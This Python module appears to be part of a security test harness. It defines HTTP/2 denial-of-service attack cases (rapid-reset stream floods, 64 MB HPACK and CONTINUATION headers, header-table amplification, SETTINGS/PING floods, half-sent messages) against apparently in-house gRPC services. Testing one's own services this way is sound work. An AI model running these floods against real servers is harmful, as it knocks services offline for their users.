"""Frames in masses: what needs no right to do anything, or nearly none."""

import struct
import time

from framework import attack
from http2 import (CANCEL, CONTINUATION, DATA, END_HEADERS, HEADERS, LARGEST_FRAME, PING, RST_STREAM, SETTINGS, Connection, frame,
                   indexed_field, integer, message, reference, request_fields)
from job_scripts import token_of_job
from rpc import messages

GET_CALLER = "/riseml.v1.UserService/GetCaller"


def flood(case, listener, seconds, count, make):
    """Sends what make(connection) returns over `count` connections, and opens another one for each that the server ends."""
    begin = time.monotonic()
    connections, sent, ended = [], 0, 0
    while time.monotonic() - begin < seconds:
        if len(connections) < count:
            try:
                connections.append(case.closing(Connection(case.port(listener), timeout=5)))
            except OSError:
                ended += 1
                time.sleep(0.1)
        for connection in list(connections):
            data = make(connection)
            if not data:
                return sent, ended
            if connection.send(data):
                sent += len(data)
            connection.drain()
            if connection.closed:
                connections.remove(connection)
                connection.close()
                ended += 1
    return sent, ended


def reset_many(case, listener, path, credential, serialised=b"", streams=240_000, seconds=12):
    """HEADERS, DATA and RST_STREAM of many streams over four connections."""
    left = [streams]
    headers, body = request_fields(path, credential), message(serialised)

    def make(connection):
        left[0] -= 500
        if left[0] < 0:
            return b""
        burst = bytearray()
        for _ in range(500):
            stream = connection.stream()
            burst += frame(HEADERS, END_HEADERS, stream, headers) + frame(DATA, 1, stream, body)
            burst += frame(RST_STREAM, 0, stream, CANCEL.to_bytes(4, "big"))
        return bytes(burst)

    begin = time.monotonic()
    _, ended = flood(case, listener, seconds, 4, make)
    case.note(f"{streams - max(0, left[0])} streams in {time.monotonic() - begin:.1f} s; the server ended {ended} connections")


@attack("A8.nokey", "rapid reset, 240,000 streams, no valid key")
def _(case):
    yield
    reset_many(case, "api.user", GET_CALLER, "rml_" + "a" * 58)
    yield


@attack("A8.key", "rapid reset, 240,000 streams, with a key")
def _(case):
    yield
    reset_many(case, "api.user", GET_CALLER, case.attacker.key)
    yield


@attack("A8.token", "rapid reset, 120,000 streams, with a job's token")
def _(case):
    token = token_of_job(case)
    request = messages("v1/job").ReportResultsRequest(sequence=1)
    yield
    reset_many(case, "api.user", "/riseml.v1.JobService/ReportResults", token, request.SerializeToString(), 120_000)
    yield


@attack("A8.logs", "rapid reset on loghandler, with a key")
def _(case):
    request = messages("v1/log").FollowRequest(name="users/attacker/experiments/1")
    yield
    reset_many(case, "loghandler.user", "/riseml.v1.LogService/Follow", case.attacker.key, request.SerializeToString(), 120_000)
    yield


@attack("A8.code", "rapid reset on gitsync, with a key")
def _(case):
    yield
    reset_many(case, "gitsync.user", "/riseml.v1.FileService/GetLimits", case.attacker.key, b"", 120_000)
    yield


def large_header(case, listener):
    """One header value of 64 MB a connection in CONTINUATION frames, without a credential."""
    name = b"x-large"
    begin = request_fields(GET_CALLER) + b"\0" + bytes([len(name)]) + name + integer(64 << 20, 7)
    piece = frame(CONTINUATION, 0, 1, b"a" * LARGEST_FRAME) * 16

    def make(connection):
        if not connection.answers:
            return piece
        connection.answers = False  # nothing may come between the pieces of a header
        return frame(HEADERS, 0, 1, begin)

    sent, ended = flood(case, listener, 15, 4, make)
    case.note(f"{sent / 1e6:.0f} MB sent; the server ended {ended} connections")


@attack("A10.header", "HPACK: header values of 64 MB, no credential")
def _(case):
    yield
    large_header(case, "api.user")
    yield


@attack("A10.logs", "the same on loghandler")
def _(case):
    yield
    large_header(case, "loghandler.user")
    yield


@attack("A10.table", "HPACK: a 4 KB field referred to 4,000 times a header")
def _(case):
    def make(connection):
        stream = connection.stream()
        fields = request_fields(GET_CALLER)
        if stream == 1:
            fields += indexed_field("x-large", "a" * 4000)
        return frame(HEADERS, END_HEADERS | 1, stream, fields + reference(62) * 4000)
    yield
    sent, ended = flood(case, "api.user", 12, 4, make)
    case.note(f"{sent / 1e6:.1f} MB sent; the server ended {ended} connections")
    yield


@attack("A10.frames", "SETTINGS and PING frames without end, no credential")
def _(case):
    burst = (frame(SETTINGS, 0, 0) + frame(PING, 0, 0, bytes(8))) * 1000
    yield
    sent, ended = flood(case, "api.user", 12, 4, lambda _: burst)
    case.note(f"{sent / 1e6:.1f} MB sent; the server ended {ended} connections")
    yield


def half_sent(case, credential, calls, size, seconds=20):
    """Begins calls, and sends their messages of `size` bytes but for the last byte."""
    begun = struct.pack(">BI", 0, size) + bytes(size - 1)
    pieces = [begun[at:at + LARGEST_FRAME] for at in range(0, len(begun), LARGEST_FRAME)]
    begin, sent, ended = time.monotonic(), 0, 0
    connection = None
    while sent < calls and time.monotonic() - begin < seconds:
        if connection is None or connection.closed or connection.next_stream > 2 * 100:
            ended += connection is not None and connection.closed
            connection = case.closing(Connection(case.port("api.user"), timeout=5))
        stream = connection.stream()
        data = frame(HEADERS, END_HEADERS, stream, request_fields(GET_CALLER, credential))
        sent += connection.send(data + b"".join(frame(DATA, 0, stream, piece) for piece in pieces))
        connection.drain(0.002)
    time.sleep(max(0, begin + seconds - time.monotonic()))
    case.note(f"{sent} calls begun; the server ended {ended} connections")


@attack("A10.half", "300 messages of 3 MB, each but for its last byte")
def _(case):
    yield
    half_sent(case, case.attacker.key, 300, 3_000_000)
    yield


@attack("A10.half.nokey", "the same without a key")
def _(case):
    yield
    half_sent(case, "", 300, 3_000_000)
    yield


@attack("A10.half.small", "2,000 messages of 300 KB, each but for its last byte")
def _(case):
    yield
    half_sent(case, case.attacker.key, 2000, 300_000)
    yield
